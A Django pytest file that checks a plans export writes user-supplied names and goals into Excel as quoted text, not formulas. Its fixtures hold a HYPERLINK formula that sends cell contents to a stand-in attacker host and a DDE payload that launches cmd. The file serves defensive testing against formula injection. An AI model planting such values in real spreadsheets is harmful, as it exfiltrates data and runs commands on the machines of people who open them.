"""Formula injection: names and texts typed by users go into the Excel export as text."""

import io
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from samverkan.plans.models import AgreementGoal
from samverkan.plans.services import open_round
from tests.factories import make_body, make_membership

HOSTILE_BODY = '=HYPERLINK("https://angripare.example/?d="&A1,"Klicka här")'
HOSTILE_GOAL = "+SUM(1+1)*cmd|' /C calc'!A0"


def test_the_inventory_export_holds_no_formula(cast, login):
    central = make_body(name="Centralt", short_name="CS3", level="central")
    make_membership(cast.carl, central, role="ordförande")
    hostile = make_body(name=HOSTILE_BODY, short_name="X1")
    goal = AgreementGoal.objects.create(area=HOSTILE_GOAL, text="Mål")
    other = AgreementGoal.objects.create(area="@import", text="Mål 2")
    round_ = open_round(title="R", goals=[goal, other], bodies=[hostile, cast.public_body])

    export = login("carl").get(reverse("plans:export", args=[round_.pk]))

    with zipfile.ZipFile(io.BytesIO(export.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(export.content)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row)
    assert "'" + HOSTILE_BODY in values and "'" + HOSTILE_GOAL in values and "'@import" in values
    assert cast.public_body.name in values  # ordinary text is unchanged
